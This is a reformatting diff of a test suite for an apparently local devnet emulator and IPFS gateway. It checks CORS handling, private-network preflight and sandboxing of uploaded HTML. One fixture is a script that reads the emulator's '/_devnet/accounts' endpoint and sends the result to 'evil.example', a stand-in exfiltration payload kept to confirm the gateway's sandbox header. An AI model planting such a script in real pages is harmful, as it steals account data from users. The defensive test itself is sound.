@@ -34,12 +34,16 @@ describe('CORS, by default (any origin, as Anvil)', () => {
     expect(ok.body.status).toBe('OK');
     const res = await c.dn.fetch(`http://devnet.test/v1/nonce?stark_key=${c.accounts.alice.stark_key}`, { headers: { origin: APP } });
     expect(res.headers.get('access-control-allow-origin')).toBe('*');
-    const refused = await c.dn.fetch('http://devnet.test/v1/project', { method: 'POST', headers: { origin: APP, 'content-type': 'application/json' }, body: '{}' });
+    const refused = await c.dn.fetch('http://devnet.test/v1/project', {
+      method: 'POST',
+      headers: { origin: APP, 'content-type': 'application/json' },
+      body: '{}',
+    });
     expect(refused.status).toBe(401);
     expect(refused.headers.get('access-control-allow-origin')).toBe('*');
   });
 
-  it('answers Chrome\'s private-network preflight (a public page calling the emulator on localhost)', async () => {
+  it("answers Chrome's private-network preflight (a public page calling the emulator on localhost)", async () => {
     const c = testClient();
     const res = await preflight(c, '/v1/order', 'https://marketplace.example', { 'access-control-request-private-network': 'true' });
     expect(res.headers.get('access-control-allow-private-network')).toBe('true');
@@ -64,7 +68,9 @@ describe('--cors-origin', () => {
     expect(yes.headers.get('vary')).toMatch(/Origin/);
     const no = await preflight(c, '/v1/order', 'http://evil.example');
     expect(no.headers.get('access-control-allow-origin')).toBeNull();
-    const read = await c.dn.fetch(`http://devnet.test/v1/nonce?stark_key=${c.accounts.alice.stark_key}`, { headers: { origin: 'http://evil.example' } });
+    const read = await c.dn.fetch(`http://devnet.test/v1/nonce?stark_key=${c.accounts.alice.stark_key}`, {
+      headers: { origin: 'http://evil.example' },
+    });
     expect(read.headers.get('access-control-allow-origin')).toBeNull();
     expect(read.headers.get('vary')).toMatch(/Origin/);
   });
@@ -80,14 +86,22 @@ describe('--cors-origin', () => {
 });
 
 describe('gateway content is sandboxed', () => {
-  const html = new TextEncoder().encode('<script>fetch("/_devnet/accounts").then(r => r.text()).then(t => fetch("https://evil.example/?" + t))</script>');
+  const html = new TextEncoder().encode(
+    '<script>fetch("/_devnet/accounts").then(r => r.text()).then(t => fetch("https://evil.example/?" + t))</script>',
+  );
 
   it('an uploaded HTML file is served with Content-Security-Policy: sandbox and nosniff; so are listings and refusals', async () => {
     const c = testClient();
     const stored = await upload(c, await genesisProject(c), fileForm('evil.html', html, 'text/html'));
     expect(stored.body.status).toBe('OK');
     const cid = stored.body.data.cid as string;
-    for (const [path, status] of [[`/ipfs/${cid}/evil.html`, 200], [`/ipfs/${cid}/`, 200], [`/ipfs/${cid}`, 200], [`/ipfs/${cid}/missing.html`, 404], ['/ipfs/not-a-cid/x', 400]] as const) {
+    for (const [path, status] of [
+      [`/ipfs/${cid}/evil.html`, 200],
+      [`/ipfs/${cid}/`, 200],
+      [`/ipfs/${cid}`, 200],
+      [`/ipfs/${cid}/missing.html`, 404],
+      ['/ipfs/not-a-cid/x', 400],
+    ] as const) {
       const res = await c.dn.fetch('http://devnet.test' + path);
       expect(res.status, path).toBe(status);
       expect(res.headers.get('content-security-policy'), path).toBe('sandbox');
@@ -100,7 +114,8 @@ describe('gateway content is sandboxed', () => {
 
   it('gateway answers carry Access-Control-Allow-Origin even without an Origin (a cached copy may serve a cross-origin read later)', async () => {
     const c = testClient();
-    const cid = (await upload(c, await genesisProject(c), fileForm('a.json', new TextEncoder().encode('{"name":"nft"}')))).body.data.cid as string;
+    const cid = (await upload(c, await genesisProject(c), fileForm('a.json', new TextEncoder().encode('{"name":"nft"}')))).body.data
+      .cid as string;
     const res = await c.dn.fetch(`http://devnet.test/ipfs/${cid}/a.json`);
     expect(res.headers.get('access-control-allow-origin')).toBe('*');
     expect(failedCode(await c.get('/ipfs/not-a-cid'))).toBe(19);
